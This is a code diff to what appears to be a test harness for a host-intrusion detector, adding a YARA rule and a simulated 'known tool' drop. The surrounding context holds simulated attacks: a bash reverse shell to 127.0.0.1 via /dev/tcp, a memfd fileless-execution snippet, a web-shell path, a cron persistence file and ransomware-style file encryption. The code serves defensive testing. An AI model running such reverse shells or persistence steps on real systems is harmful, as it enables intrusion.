@@ -26,6 +26,7 @@ export interface AttackGround {
   readonly attacks: readonly HostAttack[]
   /** Another one of each kind that is stopped, for later. */
   readonly reverseShell: () => Promise<unknown>
+  readonly knownTool: (name: string) => Promise<unknown>
   readonly settings: object
   /** Ids of the rules that may stop something here. The host is that of the tests: nothing but what is done here may fit them. */
   readonly stop: readonly string[]
@@ -67,6 +68,15 @@ open(my $m, '>&=', $fd) or die; open(my $i, '<', '/bin/sleep') or die; binmode $
 exec "/proc/self/fd/$fd", '60'`
 const MEMFD_CREATE = { x64: '319', arm64: '279' }[process.arch as 'x64' | 'arm64']
 
+/** What the YARA rule of this ground knows, and nothing else is: a file of this size that begins so. */
+const KNOWN_TOOL = `kanpeki-${'scenario'}-tool ${'x'.repeat(100)}`
+export const YARA_RULE = `rule Kanpeki_Scenario_Tool {
+  meta: severity = "high" mitre_attack = "T1105" stop = "quarantine"
+  strings: $name = "kanpeki-scenario-tool "
+  condition: $name at 0 and filesize == ${KNOWN_TOOL.length}
+}
+`
+
 const FILES = 200
 
 const readIf = (path: string): string | undefined => {
@@ -86,7 +96,8 @@ export function attackGround(folder: string): AttackGround {
   const root = join(folder, 'www')
   const guard = join(folder, 'share')
   const logs = join(folder, 'log')
-  for (const one of [join(root, 'uploads'), guard, logs]) mkdirSync(one, { recursive: true })
+  const inbox = join(folder, 'inbox')
+  for (const one of [join(root, 'uploads'), guard, logs, inbox]) mkdirSync(one, { recursive: true })
   for (let i = 0; i < FILES; i++) writeFileSync(join(guard, `plan-${i}.txt`), 'All work and no play. '.repeat(800))
   writeFileSync(join(logs, 'auth.log'), 'Accepted publickey for root\n'.repeat(50))
   const children: ChildProcess[] = []
@@ -108,6 +119,10 @@ export function attackGround(folder: string): AttackGround {
     // From a file, so that no command line says it; without start-up files, which start shells of their own on the same streams.
     writeFileSync(join(folder, 'update.sh'), `exec bash --norc -i >/dev/tcp/127.0.0.1/${to} 0>&1 2>&1\n`)
     return ended(spawn('bash', [join(folder, 'update.sh')], { stdio: 'ignore' }))
+  }
+  const knownTool = (name: string): Promise<unknown> => {
+    writeFileSync(join(inbox, name), KNOWN_TOOL)
+    return gone(join(inbox, name))
   }
   const dropped = join(root, 'uploads', 'shell.php')
   const cron = '/etc/cron.d/zz-kanpeki-scenario'
@@ -153,6 +168,11 @@ export function attackGround(folder: string): AttackGround {
       },
     },
     {
+      name: 'tool that a YARA rule knows',
+      rule: 'Kanpeki_Scenario_Tool',
+      act: () => ({ stopped: knownTool('tool.bin') }),
+    },
+    {
       name: 'SUID bit set',
       rule: 'Program given the right to run as its owner',
       act: () => {
@@ -182,11 +202,13 @@ export function attackGround(folder: string): AttackGround {
   return {
     attacks,
     reverseShell,
+    knownTool,
     stop: [
       'c70e1137-ea67-471b-b451-a3fb4c5617a5',
       '07aecd5e-89d3-42cd-abb5-ed810ca0611b',
       'd06b7acf-3a06-4aaa-83e1-fba54daeb707',
       '7abcc1bc-0ca8-40ef-a9a9-d6537b7df82a',
+      'yara-Kanpeki_Scenario_Tool',
     ],
     settings: {
       watch: ['/etc/cron.d'],
@@ -196,6 +218,7 @@ export function attackGround(folder: string): AttackGround {
       guard: [guard],
       canaries: true,
       logs: [logs],
+      yaraFolders: [inbox],
     },
     encrypted: () => [readdirSync(guard).filter((name) => name.endsWith('.locked')).length, FILES],
     close: () => {
